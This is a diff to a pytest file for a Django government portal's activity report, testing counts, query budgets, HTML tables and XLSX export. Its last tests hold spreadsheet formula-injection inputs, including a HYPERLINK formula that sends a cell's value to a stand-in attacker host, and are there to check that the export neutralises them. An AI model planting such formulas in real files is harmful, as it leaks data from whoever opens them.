@@ -7,6 +7,7 @@ here another way (page by page, with the Python status rule instead of the SQL o
 from collections import Counter
 from datetime import date
 from io import BytesIO
+from zipfile import ZipFile
 
 import pytest
 from django.core.management import call_command
@@ -17,8 +18,9 @@ from openpyxl import load_workbook
 from directives.models import DirectiveKind, DirectivePage, LegalDocumentPage, TaskPage
 from directives.status import TaskStatus, status
 from editorial import roles
-from news.models import NewsIndexPage, NewsPage
-from reports.activity import activity_report
+from news.models import NewsGalleryImage, NewsIndexPage, NewsPage
+from portal.reporting import ReportSection, ReportTable
+from reports.activity import ActivityReport, activity_report, report_workbook
 
 from . import factories as f
 
@@ -52,11 +54,35 @@ def direct_counts(start: date, end: date, today: date) -> dict:
     }
 
 
-def as_counter(tally) -> Counter:
-    return Counter(dict(tally.rows))
+def as_counter(table) -> Counter:
+    return Counter({row[0]: row[1] for row in table.rows})
 
 
-def test_on_the_demo_portal_the_report_equals_direct_counts(django_assert_max_num_queries):
+class Figures:
+    """The report's figures by what they are (the sections' tables and summary rows)."""
+
+    def __init__(self, report):
+        news, directives = report.section("news"), report.section("directives")
+        self.summary = dict(report.summary())
+        self.news_by_category = news.table("Tin bài theo chuyên mục")
+        self.news_by_author = news.table("Tin bài theo tác giả")
+        self.photos = self.summary["Ảnh đăng kèm tin bài"]
+        self.directives_by_kind = directives.table("Ý kiến chỉ đạo theo hình thức")
+        self.legal_documents_by_type = directives.table("Văn bản theo loại")
+        self.tasks_by_status = directives.table("Nhiệm vụ theo trạng thái")
+        self.tasks_by_unit = directives.table("Nhiệm vụ theo đơn vị chủ trì")
+
+    @staticmethod
+    def total(table) -> int:
+        return sum(row[1] for row in table.rows)
+
+
+#: The queries of the whole report: news 3 (categories, articles, album photos), directives 3
+#: (directives by kind, documents by type, tasks by unit and status); fixed whatever the data.
+QUERIES = 6
+
+
+def test_on_the_demo_portal_the_report_equals_direct_counts(django_assert_num_queries):
     call_command("seed_demo", verbosity=0)
     today = timezone.localdate()
     # this year (the default), the inspection's period, and everything
@@ -65,19 +91,29 @@ def test_on_the_demo_portal_the_report_equals_direct_counts(django_assert_max_nu
         (date(2018, 1, 1), date(2019, 9, 30)),
         (date(1990, 1, 1), today),
     ):
-        with django_assert_max_num_queries(8):
-            report = activity_report(start, end, today)
+        with django_assert_num_queries(QUERIES):
+            report = Figures(activity_report(start, end, today))
         expected = direct_counts(start, end, today)
         assert as_counter(report.news_by_category) == expected["news_by_category"], (start, end)
         assert report.photos == expected["photos"]
         assert as_counter(report.legal_documents_by_type) == expected["legal_documents_by_type"]
         assert as_counter(report.directives_by_kind) == expected["directives_by_kind"]
         assert as_counter(report.tasks_by_status) == expected["tasks_by_status"]
-        assert report.news_by_author.total == expected["news_by_author"]
-    everything = activity_report(date(1990, 1, 1), today, today)
+        assert report.total(report.news_by_author) == expected["news_by_author"]
+        # the summary rows are the tables' totals
+        assert report.summary["Tin bài"] == report.total(report.news_by_category)
+        assert report.summary["Văn bản"] == report.total(report.legal_documents_by_type)
+        assert report.summary["Ý kiến chỉ đạo, điều hành"] == report.total(report.directives_by_kind)
+        assert (
+            report.summary["Nhiệm vụ được giao"]
+            == report.total(report.tasks_by_status)
+            == sum(row[-2] for row in report.tasks_by_unit.rows)
+        )
+    everything = Figures(activity_report(date(1990, 1, 1), today, today))
     # the demo portal is not empty: the comparison above compared something
-    assert everything.news_by_category.total >= 20 and everything.photos >= 10
-    assert everything.legal_documents_by_type.total >= 30 and everything.tasks.overall.total >= 40
+    assert everything.total(everything.news_by_category) >= 20 and everything.photos >= 10
+    assert everything.total(everything.legal_documents_by_type) >= 30
+    assert everything.summary["Nhiệm vụ được giao"] >= 40
 
 
 def test_drafts_and_dates_outside_the_period_are_not_counted():
@@ -88,11 +124,11 @@ def test_drafts_and_dates_outside_the_period_are_not_counted():
     f.news("Ngoài kỳ", category=category, published_on=date(2024, 12, 31))
     f.legal_document(issued_on=date(2025, 6, 1))
     f.task(assigned_on=date(2025, 2, 1), deadline=date(2025, 3, 1), completed_on=date(2025, 3, 5))
-    report = activity_report(date(2025, 1, 1), date(2025, 12, 31), date(2025, 12, 31))
-    assert report.news_by_category.rows == [("Kinh tế", 1)]
-    assert report.news_by_author.rows == [("Lê Văn A", 1)]
+    report = Figures(activity_report(date(2025, 1, 1), date(2025, 12, 31), date(2025, 12, 31)))
+    assert report.news_by_category.rows == [["Kinh tế", 1]]
+    assert report.news_by_author.rows == [["Lê Văn A", 1]]
     assert report.photos == 1
-    assert report.legal_documents_by_type.total == 1
+    assert report.total(report.legal_documents_by_type) == 1
     assert as_counter(report.tasks_by_status) == Counter({"Hoàn thành quá hạn": 1})
 
 
@@ -143,3 +179,168 @@ def test_a_bad_period_is_a_400_with_a_message(editor_client, params):
 def test_anonymous_users_are_sent_to_the_login_page(client):
     response = client.get(reverse("editorial_activity_report"))
     assert response.status_code == 302 and "/login/" in response.url
+
+
+def some_content(n: int) -> None:
+    """``n`` of everything the report counts, in 2025: news with photos, directives, documents,
+    tasks of ``n`` units."""
+    category = f.news_index("Kinh tế")
+    for i in range(n):
+        page = f.news(category=category, published_on=date(2025, 4, 1 + i), lead_image=f.image(), author=f"Tác giả {i}")
+        NewsGalleryImage.objects.create(page=page, image=f.image())
+        f.directive(issued_on=date(2025, 4, 1 + i))
+        f.legal_document(issued_on=date(2025, 4, 1 + i), document_type=f.document_type(f"Loại {i}", f"L{i}"))
+        f.task(lead_unit=f.agency(f"Phòng {i}", f"P{i}"), assigned_on=date(2025, 4, 1 + i), deadline=date(2025, 5, 1))
+
+
+def test_the_report_spends_the_same_queries_whatever_the_data(django_assert_num_queries):
+    period = (date(2025, 1, 1), date(2025, 12, 31), date(2025, 6, 1))
+    with django_assert_num_queries(QUERIES):
+        empty = Figures(activity_report(*period))
+    assert empty.summary == {
+        "Tin bài": 0,
+        "Ảnh đăng kèm tin bài": 0,
+        "Ý kiến chỉ đạo, điều hành": 0,
+        "Văn bản": 0,
+        "Nhiệm vụ được giao": 0,
+    }
+    some_content(1)
+    with django_assert_num_queries(QUERIES):
+        activity_report(*period)
+    some_content(4)
+    with django_assert_num_queries(QUERIES):
+        report = Figures(activity_report(*period))
+    assert report.summary["Tin bài"] == 5 and report.photos == 10
+    assert report.summary["Nhiệm vụ được giao"] == 5 and len(report.tasks_by_unit.rows) == 4  # "Phòng 0" twice
+
+
+def test_the_tasks_per_unit_table_has_a_count_per_status_the_total_and_the_on_time_rate():
+    unit, other = f.agency("Phòng Tài chính", "TC"), f.agency("Phòng Nội vụ", "NV")
+    f.task(lead_unit=unit, assigned_on=date(2025, 2, 1), deadline=date(2025, 3, 1), completed_on=date(2025, 2, 20))
+    f.task(lead_unit=unit, assigned_on=date(2025, 2, 1), deadline=date(2025, 3, 1), completed_on=date(2025, 3, 9))
+    f.task(lead_unit=unit, assigned_on=date(2025, 2, 1), deadline=date(2025, 3, 1))
+    f.task(lead_unit=other, assigned_on=date(2025, 2, 1))
+    table = Figures(activity_report(date(2025, 1, 1), date(2025, 12, 31), date(2025, 6, 1))).tasks_by_unit
+    assert table.chart == "stacked"
+    assert table.columns[0] == "Đơn vị chủ trì" and table.columns[-2:] == ["Tổng", "Tỷ lệ đúng hạn"]
+    statuses = table.columns[1:-2]
+    assert sorted(statuses) == sorted(str(label) for label in TaskStatus.labels)
+    assert [label for label, _colour in table.legend] == statuses
+    rows = {row[0]: dict(zip(table.columns[1:], row[1:], strict=True)) for row in table.rows}
+    assert list(rows) == ["Phòng Nội vụ", "Phòng Tài chính"]
+    finance = rows["Phòng Tài chính"]
+    assert finance["Hoàn thành đúng hạn"] == finance["Hoàn thành quá hạn"] == finance["Đang thực hiện quá hạn"] == 1
+    assert finance["Tổng"] == 3 and finance["Tỷ lệ đúng hạn"] == 0.5
+    assert rows["Phòng Nội vụ"]["Không thời hạn"] == 1 and rows["Phòng Nội vụ"]["Tỷ lệ đúng hạn"] is None
+
+
+def test_the_admin_page_draws_every_table_of_the_sections(editor_client):
+    some_content(2)
+    f.task(lead_unit=f.agency("Phòng 0", "P0"), assigned_on=date(2025, 4, 3), completed_on=date(2025, 4, 4))
+    response = editor_client.get(
+        reverse("editorial_activity_report"), {"date_from": "01/01/2025", "date_to": "31/12/2025"}
+    )
+    html = response.content.decode()
+    titles = [
+        "Tin bài theo chuyên mục",
+        "Tin bài theo tác giả",
+        "Ý kiến chỉ đạo theo hình thức",
+        "Văn bản theo loại",
+        "Nhiệm vụ theo trạng thái",
+        "Nhiệm vụ theo đơn vị chủ trì",
+    ]
+    positions = [html.index(f'<h4 class="w-h4">{title}</h4>') for title in titles]
+    assert positions == sorted(positions)
+    assert html.index('data-section="news"') < html.index('data-section="directives"')
+    assert "Tác giả 1" in html and "Loại 1" in html  # the author table, the documents' bars
+    stacked = html[html.index("activity-report__stacked") :]
+    assert "Phòng 0" in stacked and "Phòng 1" in stacked and "Hoàn thành đúng hạn: 1" in stacked
+    assert "100%" in stacked and "—" in stacked  # Phòng 0: one done on time; Phòng 1: nothing done yet
+
+
+def test_an_empty_period_says_so_instead_of_drawing(editor_client):
+    response = editor_client.get(
+        reverse("editorial_activity_report"), {"date_from": "01/01/2001", "date_to": "31/12/2001"}
+    )
+    html = response.content.decode()
+    assert html.count("Không có số liệu trong khoảng thời gian này.") == 5
+    assert "Không có nhiệm vụ được giao trong khoảng thời gian này." in html
+    assert "<rect" not in html
+
+
+def test_the_xlsx_file_has_a_summary_sheet_and_a_sheet_per_table(editor_client):
+    some_content(2)
+    f.task(lead_unit=f.agency("Phòng 1", "P1"), assigned_on=date(2025, 4, 3), completed_on=date(2025, 4, 4))
+    export = editor_client.get(
+        reverse("editorial_activity_report"), {"date_from": "01/01/2025", "date_to": "31/12/2025", "export": "xlsx"}
+    )
+    book = load_workbook(BytesIO(export.content))
+    assert book.sheetnames == [
+        "Tổng hợp",
+        "Tin bài theo chuyên mục",
+        "Tin bài theo tác giả",
+        "Chỉ đạo theo hình thức",
+        "Văn bản theo loại",
+        "Nhiệm vụ theo trạng thái",
+        "Nhiệm vụ theo đơn vị chủ trì",
+    ]
+    summary = list(book["Tổng hợp"].iter_rows(values_only=True))
+    assert summary[0] == ("Báo cáo hoạt động Cổng thông tin điện tử", "Từ 01/01/2025 đến 31/12/2025")
+    assert summary[1] == ("Nội dung", "Số lượng")
+    assert summary[2:] == [
+        ("Tin tức", None),
+        ("Tin bài", 2),
+        ("Ảnh đăng kèm tin bài", 4),
+        ("Văn bản và chỉ đạo điều hành", None),
+        ("Ý kiến chỉ đạo, điều hành", 2),
+        ("Văn bản", 2),
+        ("Nhiệm vụ được giao", 3),
+    ]
+    units = book["Nhiệm vụ theo đơn vị chủ trì"]
+    header = [c.value for c in units[2]]
+    assert header[0] == "Đơn vị chủ trì" and header[-2:] == ["Tổng", "Tỷ lệ đúng hạn"] and len(header) == 9
+    assert [c.value for c in units["A"][2:]] == ["Phòng 0", "Phòng 1"]
+    assert [c.value for c in units["H"][2:]] == [1, 2]  # the totals
+    assert [c.value for c in units["I"][2:]] == [None, 1]  # Phòng 1: its one done task, on time
+    assert units["I4"].number_format == "0%"
+
+
+def test_xlsx_text_cells_are_never_formulas():
+    """Formula injection: a byline typed "=HYPERLINK(…)" stays the text it is."""
+    category = f.news_index("=1+1")
+    bylines = ['=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào đây")', "+84 912", "-1", "@SUM(1)", "\tTab"]
+    for byline in bylines:
+        f.news(category=category, published_on=date(2025, 3, 1), author=byline)
+    report = activity_report(date(2025, 1, 1), date(2025, 12, 31), date(2025, 12, 31))
+    content = report_workbook(report)
+    book = load_workbook(BytesIO(content))
+    authors = book["Tin bài theo tác giả"]
+    cells = {c.value: c for c in authors["A"][2:]}
+    assert set(cells) == {b.strip() for b in bylines}  # the byline is stripped when counted
+    for cell in [*cells.values(), book["Tin bài theo chuyên mục"]["A3"]]:
+        if cell.value != "Tab":
+            assert cell.data_type == "s" and cell.quotePrefix, cell.value
+    with ZipFile(BytesIO(content)) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # no formula anywhere in the file
+
+
+def test_every_text_cell_that_could_start_a_formula_is_written_as_text():
+    risky = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]
+    table = ReportTable("=Bảng", ["=Nhãn", "Số"], [[text, 1] for text in risky] + [["an toàn", -1]])
+    section = ReportSection("=Phần", summary=[("=Tóm tắt", "-4,2")], tables=[table])
+    book = load_workbook(BytesIO(report_workbook(ActivityReport(date(2025, 1, 1), date(2025, 1, 2), [section]))))
+    summary, sheet = book["Tổng hợp"], book["=Bảng"]
+    for cell in [summary["A3"], summary["A4"], summary["B4"], sheet["A2"], *sheet["A"][2:8]]:
+        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+    assert not sheet["A9"].quotePrefix and not sheet["B2"].quotePrefix  # "an toàn", "Số": nothing to guard
+    assert [c.value for c in sheet["A"][2:]] == [
+        "=1+1",
+        "+1",
+        "-1",
+        "@A1",
+        "\tx",
+        "\nx",
+        "an toàn",
+    ]  # XML reads \r as \n
+    assert book["=Bảng"]["B9"].value == -1 and book["=Bảng"]["B9"].data_type == "n"  # numbers stay numbers
